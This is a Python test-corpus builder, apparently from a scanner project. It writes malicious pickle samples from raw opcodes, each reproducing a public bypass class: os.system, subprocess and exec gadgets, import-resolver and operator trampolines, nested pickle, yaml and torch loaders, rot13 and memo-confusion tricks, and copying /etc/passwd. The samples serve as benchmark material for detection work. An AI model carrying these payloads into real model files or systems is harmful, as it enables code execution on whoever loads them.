"""Malicious corpus: every public bypass class we know, written from raw opcodes and bytes.

Why: the security gate claims to catch what modelscan and picklescan miss (issue 3). That
claim is only as good as the samples it is measured on, so each sample here reproduces one
technique from the public record (picklescan and modelscan advisories and issues, the
JFrog, Sonatype and Trail of Bits write-ups, the Keras/TF/ONNX format reports) with a payload
that would create `marker_dir/<sample id>` if anything ever loaded it. Nothing is loaded,
imported or unpickled while building: callables are plain strings in the byte streams, and
`tests/unit/test_corpus_builds.py` checks the marker directory stays empty.

Technique classes (the `technique` field, used for the per-class breakdown):

- gadget-shell: os/posix/nt.system, popen, spawn*, subprocess.*, _posixsubprocess.fork_exec,
  pty.spawn and stdlib/numpy/torch helpers that shell out (imaplib, pydoc, mailcap,
  ensurepip._run_pip, distutils, numpy exec_command, torch collect_env).
- gadget-exec: exec/eval/compile, runpy, code.InteractiveInterpreter, timeit, bdb/pdb, trace,
  cProfile/profile, numpy runstring.
- gadget-import-resolver: __import__, importlib, pkgutil.resolve_name, sys.modules, dotted
  attribute paths through allowed-looking modules, Python 2 name mapping (fix_imports).
- gadget-trampoline: operator/_operator attrgetter, methodcaller, call; getattr chains;
  functools.partial; map consumed by list.
- gadget-ctypes, gadget-file-write, gadget-network.
- gadget-nested-deserializer: pickle/_pickle/marshal/numpy/torch/yaml/joblib/dill/
  cloudpickle/pandas loaders and zlib/base64-wrapped inner pickles.
- gadget-code-object: types.FunctionType over marshal or CodeType, cloudpickle by value.
- opcode-protocol, opcode-inst-obj-newobj, opcode-stack-global-indirection,
  opcode-ext-registry, opcode-hidden-result, opcode-setstate-append-setitem,
  stream-framing, bounds: see the rows below.
- container-*, mlflow-*, keras, tf-savedmodel, onnx, safetensors, skops: see
  `tests/corpus/malicious_formats.py`.

Trick and container samples rotate gadgets from the public record. The gadget-* classes
measure gadgets; every other sample measures a trick (opcode-*, stream-framing, pickle-carrying
bounds) or a container (container-*, safetensors). Carrying the same plain `os.system` in all
of them would measure the trick against the one callable every blocklist names, which is not
how public bypasses look: they pair a trick with a gadget chosen to dodge blocklists. So each
trick or container sample carries the next gadget of `tests.corpus.gadgets.ROTATION`, in build
order (one `Rotation` runs through this module, then `malicious_formats.py`), rendered through
its trick, with its own marker. A trick that cannot carry a gadget takes the next one that
fits: INST/OBJ skip a class called with no arguments (they would only `__new__` it);
`__setstate__`/`append` need a one-argument gadget. The `description` of each sample ends
with `gadget: ...` and its `payload` names the gadget key. The rotation (in brackets: which
of modelscan 0.8.8 / picklescan 1.0.5 blocklist a name it uses):

- os_system: os.system(cmd) [modelscan, picklescan]
- pkgutil_resolve_name: pkgutil.resolve_name('os:system')(cmd) [picklescan]
- ensurepip_run_pip: ensurepip._run_pip(['--version'], additional_paths=code) [picklescan]
- subprocess_popen: subprocess.Popen(argv) [modelscan, picklescan]
- timeit_setup: timeit.timeit('pass', setup=code, time.perf_counter, 1) [picklescan]
- operator_methodcaller: operator.methodcaller('system', cmd)(tempfile._os) [picklescan]
- builtins_exec: builtins.exec(code) [modelscan, picklescan]
- pydoc_pipepager: pydoc.pipepager('', cmd) [picklescan]
- torch_collect_env_run: torch.utils.collect_env.run(cmd) [picklescan]
- code_interpreter_runsource: getattr(code.InteractiveInterpreter(), 'runsource')(code)
  [modelscan, picklescan: via builtins.getattr]
- cprofile_run: cProfile.run(code) [picklescan]
- numpy_load_nested: numpy.load(BytesIO(object .npy holding an os.system pickle), None,
  True) [neither]
- importlib_getattr: getattr(importlib.import_module('os'), 'system')(cmd)
  [modelscan, picklescan: via builtins.getattr]
- numpy_runstring: numpy.testing._private.utils.runstring(code, {}) [picklescan]
- torch_load_nested: torch.load(BytesIO(os.system pickle), None, torch.serialization.pickle):
  an explicit pickle_module turns weights_only off [neither]
- runpy_run_code: runpy._run_code(code, {}) [modelscan, picklescan]
- bdb_run: getattr(bdb.Bdb(), 'run')(code) [modelscan, picklescan]

Fixed payloads where the payload is the trick: opcode_newobj_posixpath_touch (a class whose
`__new__` does the work), opcode_setitems_shelve (a disk-writing `__setitem__`), and the
MLflow, skops, Keras, TF and ONNX samples, whose payloads belong to their formats.
"""

from __future__ import annotations

import base64
import marshal
import pickle as op
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.corpus import Sample, write_manifest
from tests.corpus.gadgets import (
    BASE,
    ENC0,
    ENC1,
    ENC2,
    ENC3,
    ENC4,
    ENC5,
    ROTATION,
    Encoding,
    Gadget,
    Rotation,
    any_gadget,
    gadget_body,
    gadget_pickle,
    inst_ok,
    os_system,
    os_system_pickle,
    pushing,
    py,
    render,
    sh,
    unary,
)
from tests.corpus.rawbytes import (
    binbytes,
    binstring,
    call,
    code_object,
    dct,
    frame,
    function_code,
    getattr_,
    glob,
    integer,
    lst,
    npy_object_array,
    short_binstring,
    stack_glob,
    string0,
    tup,
    uni,
    uni0,
    uni0_escaped,
    value,
    wrap,
)

# A pickle row: (file name, technique class, description, body builder over the marker path).
PickleRow = tuple[str, str, str, Callable[[str], bytes]]


def touch_argv(marker: str) -> bytes:
    """`['touch', marker]` as a list."""
    return lst(uni("touch"), uni(marker))


def payload_function(marker: str) -> str:
    """Source of a function whose code names `os.system` (compiled, never run)."""
    return f"def predict(*args):\n    import os\n    return os.system({sh(marker)!r})\n"


# ------------------------------------------------------------------ gadget callables


def _fork_exec(m: str) -> bytes:
    args = lst(binbytes(b"touch"), binbytes(m.encode()))
    exe = tup(binbytes(b"/usr/bin/touch"), binbytes(b"/bin/touch"))
    rest = [op.NEWTRUE, op.EMPTY_TUPLE, op.NONE, op.NONE]
    rest += [value(-1)] * 8 + [op.NEWFALSE, op.NEWFALSE, value(-1)]
    rest += [op.NONE, op.NONE, op.NONE, value(-1), op.NONE, op.NEWFALSE]
    return call(glob("_posixsubprocess", "fork_exec"), args, exe, *rest)


SHELL: list[PickleRow] = [
    ("gadget_os_system.pkl", "os.system(cmd)", lambda m: os_system(m)),
    ("gadget_posix_system.pkl", "posix.system: private alias of os.system",
     lambda m: call(glob("posix", "system"), uni(sh(m)))),
    ("gadget_nt_system.pkl", "nt.system: the Windows alias of os.system",
     lambda m: call(glob("nt", "system"), uni(sh(m)))),
    ("gadget_os_popen.pkl", "os.popen(cmd)", lambda m: call(glob("os", "popen"), uni(sh(m)))),
    ("gadget_os_spawnlp.pkl", "os.spawnlp(P_WAIT, 'touch', ...)",
     lambda m: call(glob("os", "spawnlp"), integer(0), uni("touch"), uni("touch"), uni(m))),
    ("gadget_subprocess_popen.pkl", "subprocess.Popen(argv)",
     lambda m: call(glob("subprocess", "Popen"), touch_argv(m))),
    ("gadget_subprocess_call.pkl", "subprocess.call(argv)",
     lambda m: call(glob("subprocess", "call"), touch_argv(m))),
    ("gadget_subprocess_check_call.pkl", "subprocess.check_call(argv)",
     lambda m: call(glob("subprocess", "check_call"), touch_argv(m))),
    ("gadget_subprocess_check_output.pkl", "subprocess.check_output(argv)",
     lambda m: call(glob("subprocess", "check_output"), touch_argv(m))),
    ("gadget_subprocess_run.pkl", "subprocess.run(argv)",
     lambda m: call(glob("subprocess", "run"), touch_argv(m))),
    ("gadget_subprocess_getoutput.pkl", "subprocess.getoutput(cmd)",
     lambda m: call(glob("subprocess", "getoutput"), uni(sh(m)))),
    ("gadget_subprocess_getstatusoutput.pkl", "subprocess.getstatusoutput(cmd)",
     lambda m: call(glob("subprocess", "getstatusoutput"), uni(sh(m)))),
    ("gadget_posixsubprocess_fork_exec.pkl", "_posixsubprocess.fork_exec: private C helper",
     _fork_exec),
    ("gadget_pty_spawn.pkl", "pty.spawn(argv)",
     lambda m: call(glob("pty", "spawn"), touch_argv(m))),
    ("gadget_imaplib_imap4_stream.pkl", "imaplib.IMAP4_stream runs its argument with a shell",
     lambda m: call(glob("imaplib", "IMAP4_stream"), uni(sh(m)))),
    ("gadget_pydoc_pipepager.pkl", "pydoc.pipepager(text, cmd) pipes into a shell command",
     lambda m: call(glob("pydoc", "pipepager"), uni(""), uni(sh(m)))),
    ("gadget_mailcap_findmatch.pkl", "mailcap.findmatch runs the entry's `test` command",
     lambda m: call(
         glob("mailcap", "findmatch"),
         value({"text/plain": [{"view": "true", "test": sh(m)}]}),
         uni("text/plain"),
     )),
    ("gadget_ensurepip_run_pip.pkl", "ensurepip._run_pip: additional_paths is pasted into code",
     lambda m: call(
         glob("ensurepip", "_run_pip"),
         lst(uni("--version")),
         uni(f"__import__('os').system({sh(m)!r}) or []"),
     )),
    ("gadget_distutils_spawn.pkl", "distutils.spawn.spawn(argv)",
     lambda m: call(glob("distutils.spawn", "spawn"), touch_argv(m))),
    ("gadget_numpy_exec_command.pkl", "numpy.distutils.exec_command: shell inside numpy",
     lambda m: call(glob("numpy.distutils.exec_command", "exec_command"), uni(sh(m)))),
    ("gadget_torch_collect_env_run.pkl", "torch.utils.collect_env.run: shell inside torch",
     lambda m: call(glob("torch.utils.collect_env", "run"), uni(sh(m)))),
]  # fmt: skip

EXEC: list[PickleRow] = [
    ("gadget_builtins_exec.pkl", "builtins.exec(source)",
     lambda m: call(glob("builtins", "exec"), uni(py(m)))),
    ("gadget_builtins_eval.pkl", "builtins.eval(expression)",
     lambda m: call(glob("builtins", "eval"), uni(f"__import__('os').system({sh(m)!r})"))),
    ("gadget_builtins_compile_exec.pkl", "exec(compile(source)) with the code built at load",
     lambda m: call(
         glob("builtins", "exec"),
         call(glob("builtins", "compile"), uni(py(m)), uni("<m>"), uni("exec")),
     )),
    ("gadget_runpy_run_code.pkl", "runpy._run_code(source, globals)",
     lambda m: call(glob("runpy", "_run_code"), uni(py(m)), op.EMPTY_DICT)),
    ("gadget_code_interactive_interpreter.pkl", "code.InteractiveInterpreter().runsource",
     lambda m: call(getattr_(call(glob("code", "InteractiveInterpreter")), "runsource"),
                    uni(py(m)))),
    ("gadget_timeit_timeit.pkl", "timeit.timeit(stmt, setup, timer, number=1)",
     lambda m: call(glob("timeit", "timeit"), uni(py(m)), uni("pass"),
                    glob("time", "perf_counter"), integer(1))),
    ("gadget_bdb_run.pkl", "bdb.Bdb().run(source)",
     lambda m: call(getattr_(call(glob("bdb", "Bdb")), "run"), uni(py(m)))),
    ("gadget_pdb_run.pkl", "pdb.Pdb(stdin=StringIO('continue')).run(source): no prompt",
     lambda m: call(getattr_(call(glob("pdb", "Pdb"), uni("tab"),
                                  call(glob("io", "StringIO"), uni("continue\n"))), "run"),
                    uni(py(m)))),
    ("gadget_trace_run.pkl", "trace.Trace().run(source)",
     lambda m: call(getattr_(call(glob("trace", "Trace")), "run"), uni(py(m)))),
    ("gadget_cprofile_run.pkl", "cProfile.run(source)",
     lambda m: call(glob("cProfile", "run"), uni(py(m)))),
    ("gadget_profile_run.pkl", "profile.run(source)",
     lambda m: call(glob("profile", "run"), uni(py(m)))),
    ("gadget_numpy_runstring.pkl", "numpy.testing._private.utils.runstring: exec in numpy",
     lambda m: call(glob("numpy.testing._private.utils", "runstring"), uni(py(m)),
                    op.EMPTY_DICT)),
]  # fmt: skip

RESOLVER: list[PickleRow] = [
    ("gadget_builtins_import_getattr.pkl", "getattr(__import__('os'), 'system')",
     lambda m: call(getattr_(call(glob("builtins", "__import__"), uni("os")), "system"),
                    uni(sh(m)))),
    ("gadget_importlib_import_module.pkl", "getattr(importlib.import_module('os'), 'system')",
     lambda m: call(getattr_(call(glob("importlib", "import_module"), uni("os")), "system"),
                    uni(sh(m)))),
    ("gadget_pkgutil_resolve_name.pkl", "pkgutil.resolve_name('os:system') (GHSA-vvpj)",
     lambda m: call(call(glob("pkgutil", "resolve_name"), uni("os:system")), uni(sh(m)))),
    ("gadget_sys_modules_getattribute.pkl",
     "object.__getattribute__(dict.get(sys.modules, 'os'), 'system'), dotted names (proto 4)",
     lambda m: call(
         call(stack_glob("builtins", "object.__getattribute__"),
              call(stack_glob("builtins", "dict.get"), stack_glob("sys", "modules"), uni("os")),
              uni("system")),
         uni(sh(m)),
     )),
    ("gadget_dotted_posixpath_os_system.pkl", "STACK_GLOBAL('posixpath', 'os.system')",
     lambda m: call(stack_glob("posixpath", "os.system"), uni(sh(m)))),
    ("gadget_dotted_torch_serialization_os.pkl",
     "STACK_GLOBAL('torch.serialization', 'os.system'): allowed prefix, dangerous target",
     lambda m: call(stack_glob("torch.serialization", "os.system"), uni(sh(m)))),
    ("gadget_submodule_asyncio_unix_events.pkl",
     "submodule of a blocked module reaching subprocess (CVE-2025-10157 class)",
     lambda m: call(stack_glob("asyncio.unix_events", "subprocess.Popen"), touch_argv(m))),
    ("gadget_py2_builtin_eval.pkl", "__builtin__.eval mapped to builtins by fix_imports",
     lambda m: call(glob("__builtin__", "eval"), uni(f"__import__('os').system({sh(m)!r})"))),
    ("gadget_py2_commands_getoutput.pkl", "commands.getoutput mapped to subprocess (py2 name)",
     lambda m: call(glob("commands", "getoutput"), uni(sh(m)))),
]  # fmt: skip

TRAMPOLINE: list[PickleRow] = [
    ("gadget_operator_attrgetter.pkl",
     "operator.attrgetter('os.system')(torch.serialization)",
     lambda m: call(call(call(glob("operator", "attrgetter"), uni("os.system")),
                         glob("torch", "serialization")), uni(sh(m)))),
    ("gadget_private_operator_attrgetter.pkl", "_operator.attrgetter on tempfile._os",
     lambda m: call(call(call(glob("_operator", "attrgetter"), uni("system")),
                         glob("tempfile", "_os")), uni(sh(m)))),
    ("gadget_operator_methodcaller.pkl", "operator.methodcaller('system', cmd)(tempfile._os)",
     lambda m: call(call(glob("operator", "methodcaller"), uni("system"), uni(sh(m))),
                    glob("tempfile", "_os"))),
    ("gadget_operator_call.pkl", "operator.call(os.system, cmd)",
     lambda m: call(glob("operator", "call"), glob("os", "system"), uni(sh(m)))),
    ("gadget_builtins_getattr_chain.pkl", "getattr(posixpath.os, 'system')",
     lambda m: call(getattr_(glob("posixpath", "os"), "system"), uni(sh(m)))),
    ("gadget_functools_partial.pkl", "functools.partial(os.system, cmd)()",
     lambda m: call(call(glob("functools", "partial"), glob("os", "system"), uni(sh(m))))),
    ("gadget_list_map.pkl", "list(map(os.system, [cmd])): the lazy call is forced",
     lambda m: call(glob("builtins", "list"),
                    call(glob("builtins", "map"), glob("os", "system"), lst(uni(sh(m)))))),
]  # fmt: skip

CTYPES: list[PickleRow] = [
    ("gadget_ctypes_cdll_system.pkl", "getattr(ctypes.CDLL(None), 'system')(b'cmd')",
     lambda m: call(getattr_(call(glob("ctypes", "CDLL"), op.NONE), "system"),
                    binbytes(sh(m).encode()))),
    ("gadget_ctypes_loadlibrary.pkl", "ctypes.cdll.LoadLibrary('libc.so.6').system",
     lambda m: call(getattr_(call(stack_glob("ctypes", "cdll.LoadLibrary"), uni("libc.so.6")),
                             "system"), binbytes(sh(m).encode()))),
]  # fmt: skip

FILE_WRITE: list[PickleRow] = [
    ("gadget_builtins_open_write.pkl", "builtins.open(path, 'w')",
     lambda m: call(glob("builtins", "open"), uni(m), uni("w"))),
    ("gadget_io_open_write.pkl", "io.open(path, 'w')",
     lambda m: call(glob("io", "open"), uni(m), uni("w"))),
    ("gadget_private_io_open_write.pkl", "_io.open(path, 'w').write(...) via getattr",
     lambda m: call(getattr_(call(glob("_io", "open"), uni(m), uni("w")), "write"),
                    uni("pwned"))),
    ("gadget_io_fileio.pkl", "io.FileIO(path, 'w')",
     lambda m: call(glob("io", "FileIO"), uni(m), uni("w"))),
    ("gadget_codecs_open.pkl", "codecs.open(path, 'w')",
     lambda m: call(glob("codecs", "open"), uni(m), uni("w"))),
    ("gadget_shutil_copy.pkl", "shutil.copy('/etc/passwd', path)",
     lambda m: call(glob("shutil", "copy"), uni("/etc/passwd"), uni(m))),
    ("gadget_os_mkdir.pkl", "os.mkdir(path)", lambda m: call(glob("os", "mkdir"), uni(m))),
    ("gadget_pathlib_touch_getattr.pkl", "getattr(pathlib.Path(path), 'touch')()",
     lambda m: call(getattr_(call(glob("pathlib", "Path"), uni(m)), "touch"))),
    ("gadget_pathlib_path_touch_dotted.pkl", "STACK_GLOBAL('pathlib', 'Path.touch')(Path(p))",
     lambda m: call(stack_glob("pathlib", "Path.touch"), call(glob("pathlib", "Path"), uni(m)))),
    ("gadget_logging_filehandler.pkl", "logging.FileHandler(path) opens the file on init",
     lambda m: call(glob("logging", "FileHandler"), uni(m))),
    ("gadget_zipfile_write.pkl", "zipfile.ZipFile(path, 'w')",
     lambda m: call(glob("zipfile", "ZipFile"), uni(m), uni("w"))),
    ("gadget_tarfile_open_write.pkl", "tarfile.open(path, 'w')",
     lambda m: call(glob("tarfile", "open"), uni(m), uni("w"))),
    ("gadget_tempfile_named.pkl", "tempfile.NamedTemporaryFile(dir=marker dir, delete=False)",
     lambda m: call(glob("tempfile", "NamedTemporaryFile"), uni("w"), value(-1), op.NONE,
                    op.NONE, op.NONE, uni(Path(m).name), uni(str(Path(m).parent)),
                    op.NEWFALSE)),
    ("gadget_dbm_open.pkl", "dbm.open(path, 'c')",
     lambda m: call(glob("dbm", "open"), uni(m), uni("c"))),
]  # fmt: skip

NETWORK: list[PickleRow] = [
    ("gadget_urllib_urlretrieve.pkl", "urllib.request.urlretrieve(url, path)",
     lambda m: call(glob("urllib.request", "urlretrieve"), uni("file:///etc/passwd"), uni(m))),
    ("gadget_urllib_urlopener_retrieve.pkl", "urllib.request.URLopener().retrieve(url, path)",
     lambda m: call(getattr_(call(glob("urllib.request", "URLopener")), "retrieve"),
                    uni("file:///etc/passwd"), uni(m))),
    ("gadget_socket_bind_unix.pkl", "socket.socket(AF_UNIX).bind(path)",
     lambda m: call(getattr_(call(glob("socket", "socket"), integer(1), integer(1)), "bind"),
                    uni(m))),
    ("gadget_private_socket_bind_unix.pkl", "_socket.socket(AF_UNIX).bind(path)",
     lambda m: call(getattr_(call(glob("_socket", "socket"), integer(1), integer(1)), "bind"),
                    uni(m))),
]  # fmt: skip


def _inner(m: str) -> bytes:
    return os_system_pickle(m, 2)


def _bytesio(raw: bytes) -> bytes:
    return call(glob("io", "BytesIO"), binbytes(raw))


NESTED: list[PickleRow] = [
    ("gadget_nested_pickle_loads.pkl", "pickle.loads(inner malicious pickle)",
     lambda m: call(glob("pickle", "loads"), binbytes(_inner(m)))),
    ("gadget_nested_private_pickle_loads.pkl", "_pickle.loads(inner)",
     lambda m: call(glob("_pickle", "loads"), binbytes(_inner(m)))),
    ("gadget_nested_pickle_load_bytesio.pkl", "pickle.load(io.BytesIO(inner))",
     lambda m: call(glob("pickle", "load"), _bytesio(_inner(m)))),
    ("gadget_nested_zlib_pickle.pkl", "pickle.loads(zlib.decompress(blob)): payload hidden",
     lambda m: call(glob("pickle", "loads"),
                    call(glob("zlib", "decompress"), binbytes(zlib.compress(_inner(m)))))),
    ("gadget_nested_base64_pickle.pkl", "pickle.loads(base64.b64decode(text))",
     lambda m: call(glob("pickle", "loads"),
                    call(glob("base64", "b64decode"), uni(base64.b64encode(_inner(m)).decode())))),
    ("gadget_nested_numpy_load.pkl", "numpy.load(BytesIO(object .npy), None, allow_pickle=True)",
     lambda m: call(glob("numpy", "load"), _bytesio(npy_object_array(_inner(m))), op.NONE,
                    op.NEWTRUE)),
    ("gadget_nested_torch_load.pkl", "torch.load(BytesIO(inner), None, pickle): weights_only off",
     lambda m: call(glob("torch", "load"), _bytesio(_inner(m)), op.NONE,
                    glob("torch.serialization", "pickle"))),
    ("gadget_nested_yaml_unsafe_load.pkl", "yaml.unsafe_load('!!python/object/apply:os.system')",
     lambda m: call(glob("yaml", "unsafe_load"),
                    uni(f"!!python/object/apply:os.system [{sh(m)!r}]"))),
    ("gadget_nested_yaml_load_unsafeloader.pkl", "yaml.load(text, yaml.UnsafeLoader)",
     lambda m: call(glob("yaml", "load"), uni(f"!!python/object/apply:os.system [{sh(m)!r}]"),
                    glob("yaml", "UnsafeLoader"))),
    ("gadget_nested_joblib_load.pkl", "joblib.load(BytesIO(inner))",
     lambda m: call(glob("joblib", "load"), _bytesio(_inner(m)))),
    ("gadget_nested_dill_loads.pkl", "dill.loads(inner)",
     lambda m: call(glob("dill", "loads"), binbytes(_inner(m)))),
    ("gadget_nested_cloudpickle_loads.pkl", "cloudpickle.loads(inner)",
     lambda m: call(glob("cloudpickle", "loads"), binbytes(_inner(m)))),
    ("gadget_nested_pandas_read_pickle.pkl", "pandas.read_pickle(BytesIO(inner))",
     lambda m: call(glob("pandas", "read_pickle"), _bytesio(_inner(m)))),
]  # fmt: skip


def _code(m: str) -> bytes:
    return code_object(function_code(payload_function(m)))


def cloudpickle_function_call(m: str) -> bytes:
    """Cloudpickle's by-value function (`_make_function` over `_builtin_type('CodeType')`),
    then called: the shape of a `python_model.pkl` whose code uses `os.system`."""
    co = function_code(payload_function(m))
    code_type = call(stack_glob("cloudpickle.cloudpickle", "_builtin_type"), uni("CodeType"))
    fields = code_object(co)
    # code_object() calls types.CodeType; swap in cloudpickle's indirection for the callable.
    fields = fields.replace(glob("types", "CodeType"), code_type, 1)
    globals_ = dct([(uni("__name__"), uni("__main__"))])
    fn = call(
        stack_glob("cloudpickle.cloudpickle", "_make_function"),
        fields,
        globals_,
        uni("predict"),
        op.NONE,
        op.NONE,
    )
    return call(fn)


CODE: list[PickleRow] = [
    ("gadget_code_marshal_functiontype.pkl", "types.FunctionType(marshal.loads(code), {})()",
     lambda m: call(call(glob("types", "FunctionType"),
                         call(glob("marshal", "loads"),
                              binbytes(marshal.dumps(function_code(payload_function(m))))),
                         op.EMPTY_DICT))),
    ("gadget_code_codetype_functiontype.pkl", "types.FunctionType(types.CodeType(...), {})()",
     lambda m: call(call(glob("types", "FunctionType"), _code(m), op.EMPTY_DICT))),
    ("gadget_code_cloudpickle_make_function.pkl",
     "cloudpickle _make_function(_builtin_type('CodeType')(...)) then called",
     cloudpickle_function_call),
]  # fmt: skip


# ------------------------------------------------------------------ opcode tricks
#
# Every row below is a trick; its payload is the next gadget of `ROTATION` that the trick
# can carry (see the module docstring), rendered through the trick.


@dataclass(frozen=True)
class Trick:
    """A trick sample: `build(marker, gadget)` gives the body (or, for STREAMS, the stream).

    `need` filters the rotation (INST/OBJ cannot carry a class called without arguments;
    `__setstate__`/`append` need a one-argument gadget). `rotate=False` keeps a fixed payload
    where the payload is the trick itself (a class whose `__new__` does the work).
    """

    name: str
    description: str
    build: Callable[[str, Gadget | None], bytes]
    need: Callable[[Gadget], bool] = any_gadget
    rotate: bool = True


def _via(pusher: Callable[[str, str], bytes], enc: Encoding = BASE) -> Callable:
    """A trick that only changes how the entry callable is pushed."""
    return lambda m, g: gadget_body(m, g, enc, pushing(pusher, enc))


def _proto4(m: str, g: Gadget) -> bytes:
    return frame(gadget_body(m, g, ENC4))


def _proto5(m: str, g: Gadget) -> bytes:
    junk = op.BYTEARRAY8 + (4).to_bytes(8, "little") + b"pad!" + op.POP
    return frame(junk + gadget_body(m, g, ENC5))


PROTOCOLS: list[tuple[int, Trick]] = [
    (0, Trick("opcode_protocol0_global_string.pkl",
              "protocol 0: GLOBAL, STRING, INT, MARK/TUPLE/LIST/DICT only",
              lambda m, g: gadget_body(m, g, ENC0))),
    (1, Trick("opcode_protocol1_binstring.pkl", "protocol 1: BINSTRING strings, MARK/TUPLE",
              lambda m, g: gadget_body(m, g, ENC1))),
    (2, Trick("opcode_protocol2_short_binstring.pkl", "protocol 2: SHORT_BINSTRING strings",
              lambda m, g: gadget_body(m, g, ENC2))),
    (3, Trick("opcode_protocol3_binunicode.pkl", "protocol 3: BINUNICODE strings",
              lambda m, g: gadget_body(m, g, ENC3))),
    (4, Trick("opcode_protocol4_frame_memoize.pkl", "protocol 4: FRAME, MEMOIZE, STACK_GLOBAL",
              _proto4)),
    (5, Trick("opcode_protocol5_bytearray8.pkl", "protocol 5: BYTEARRAY8 then STACK_GLOBAL",
              _proto5)),
]  # fmt: skip


def _inst(module: str, name: str, args: list[bytes]) -> bytes:
    return op.MARK + b"".join(args) + op.INST + f"{module}\n{name}\n".encode()


def _obj(module: str, name: str, args: list[bytes]) -> bytes:
    return op.MARK + glob(module, name) + b"".join(args) + op.OBJ


def _newobj_partial(module: str, name: str, args: list[bytes]) -> bytes:
    cls = glob("functools", "partial")
    return cls + tup(glob(module, name), *args) + op.NEWOBJ + op.EMPTY_TUPLE + op.REDUCE


def _newobj_ex_partial(module: str, name: str, args: list[bytes]) -> bytes:
    cls = glob("functools", "partial")
    fields = tup(glob(module, name), *args) + op.EMPTY_DICT
    return cls + fields + op.NEWOBJ_EX + op.EMPTY_TUPLE + op.REDUCE


INSTANTIATION: list[Trick] = [
    Trick("opcode_inst_text_args.pkl",
          "INST module name: class-instantiation opcode calls a function (protocol-0 args)",
          lambda m, g: gadget_body(m, g, ENC0, _inst), need=inst_ok),
    Trick("opcode_inst_binary_args.pkl", "INST module name with binary-opcode arguments",
          lambda m, g: gadget_body(m, g, BASE, _inst), need=inst_ok),
    Trick("opcode_obj.pkl", "OBJ: MARK callable args OBJ",
          lambda m, g: gadget_body(m, g, BASE, _obj), need=inst_ok),
    Trick("opcode_newobj_partial.pkl", "NEWOBJ functools.partial(callable, *args), then called",
          lambda m, g: gadget_body(m, g, BASE, _newobj_partial)),
    Trick("opcode_newobj_ex_partial.pkl", "NEWOBJ_EX functools.partial, then called",
          lambda m, g: gadget_body(m, g, BASE, _newobj_ex_partial)),
    Trick("opcode_newobj_posixpath_touch.pkl", "NEWOBJ pathlib.PosixPath(path), then .touch()",
          lambda m, g: call(getattr_(glob("pathlib", "PosixPath") + tup(uni(m)) + op.NEWOBJ,
                                     "touch")), rotate=False),
]  # fmt: skip


def _rot13(text: str) -> bytes:
    return call(glob("codecs", "decode"), uni(rot13(text)), uni("rot13"))


def rot13(text: str) -> str:
    """ROT13 of both cases, as `codecs.decode(..., 'rot13')` undoes it (no codecs import)."""
    out = []
    for c in text:
        if "a" <= c <= "z":
            out.append(chr((ord(c) - 97 + 13) % 26 + 97))
        elif "A" <= c <= "Z":
            out.append(chr((ord(c) - 65 + 13) % 26 + 65))
        else:
            out.append(c)
    return "".join(out)


def _joined(text: str) -> bytes:
    return call(stack_glob("builtins", "str.join"), uni(""), lst(*(uni(c) for c in text)))


def _memo_text(module: str, name: str) -> bytes:
    return (uni0(module) + op.PUT + b"7\n" + op.POP + uni0(name) + op.PUT + b"8\n" + op.POP
            + op.GET + b"7\n" + op.GET + b"8\n" + op.STACK_GLOBAL)  # fmt: skip


def _memo_binget(module: str, name: str) -> bytes:
    return (uni(module) + op.BINPUT + b"\x05" + op.POP + uni(name) + op.BINPUT + b"\x06"
            + op.POP + op.BINGET + b"\x05" + op.BINGET + b"\x06" + op.STACK_GLOBAL)  # fmt: skip


def _memo_long_binget(module: str, name: str) -> bytes:
    a, b = (70000).to_bytes(4, "little"), (70001).to_bytes(4, "little")
    return (uni(module) + op.LONG_BINPUT + a + op.POP + uni(name) + op.LONG_BINPUT + b
            + op.POP + op.LONG_BINGET + a + op.LONG_BINGET + b + op.STACK_GLOBAL)  # fmt: skip


def _memo_confusion(module: str, name: str) -> bytes:
    """BINPUT and MEMOIZE mixed so a scanner counting MEMOIZE sees safe names at 0 and 1."""
    return (short_binstring(module) + op.BINPUT + b"\x00" + op.POP
            + short_binstring(name) + op.BINPUT + b"\x01" + op.POP
            + uni("torch._utils") + op.MEMOIZE + op.POP
            + uni("_rebuild_tensor_v2") + op.MEMOIZE + op.POP
            + op.BINGET + b"\x00" + op.BINGET + b"\x01" + op.STACK_GLOBAL)  # fmt: skip


def _memo_overwrite(module: str, name: str) -> bytes:
    """Safe names stored first, then the same memo slots overwritten with dangerous ones."""
    return (uni("collections") + op.BINPUT + b"\x00" + op.POP
            + uni("OrderedDict") + op.BINPUT + b"\x01" + op.POP
            + uni(module) + op.BINPUT + b"\x00" + op.POP
            + uni(name) + op.BINPUT + b"\x01" + op.POP
            + op.BINGET + b"\x00" + op.BINGET + b"\x01" + op.STACK_GLOBAL)  # fmt: skip


def _build_setattr(module: str, name: str) -> bytes:
    """modelscan #85: BUILD slot-state sets numpy.prod.a/.b to the names; dotted GLOBAL reads."""
    state_a = op.NONE + dct([(uni("a"), uni(module))]) + op.TUPLE2
    state_b = op.NONE + dct([(uni("b"), uni(name))]) + op.TUPLE2
    return (glob("numpy", "prod") + state_a + op.BUILD + state_b + op.BUILD + op.POP
            + glob("numpy", "prod.a") + glob("numpy", "prod.b") + op.STACK_GLOBAL)  # fmt: skip


ESCAPED = Encoding(s=uni0_escaped)

STACK_GLOBAL: list[Trick] = [
    Trick("opcode_stack_global_rot13_names.pkl", "names decoded at load: codecs.decode(rot13)",
          _via(lambda mo, na: _rot13(mo) + _rot13(na) + op.STACK_GLOBAL)),
    Trick("opcode_stack_global_joined_names.pkl", "names built at load with str.join",
          _via(lambda mo, na: _joined(mo) + _joined(na) + op.STACK_GLOBAL)),
    Trick("opcode_stack_global_memo_get.pkl", "names fetched from memo with text PUT/GET",
          _via(_memo_text)),
    Trick("opcode_stack_global_memo_binget.pkl", "names fetched with BINPUT/BINGET",
          _via(_memo_binget)),
    Trick("opcode_stack_global_memo_long_binget.pkl", "names fetched with LONG_BINGET 70000",
          _via(_memo_long_binget)),
    Trick("opcode_stack_global_memo_confusion.pkl", "BINPUT/MEMOIZE mixed: memo index confusion",
          _via(_memo_confusion)),
    Trick("opcode_stack_global_memo_overwrite.pkl", "memo slots overwritten after safe names",
          _via(_memo_overwrite)),
    Trick("opcode_stack_global_build_setattr.pkl", "BUILD sets attributes read back by GLOBAL",
          _via(_build_setattr)),
    Trick("opcode_stack_global_short_binstring.pkl",
          "module/name as SHORT_BINSTRING (non-unicode)",
          _via(lambda mo, na: short_binstring(mo) + short_binstring(na) + op.STACK_GLOBAL)),
    Trick("opcode_stack_global_binstring.pkl", "module/name as BINSTRING",
          _via(lambda mo, na: binstring(mo) + binstring(na) + op.STACK_GLOBAL)),
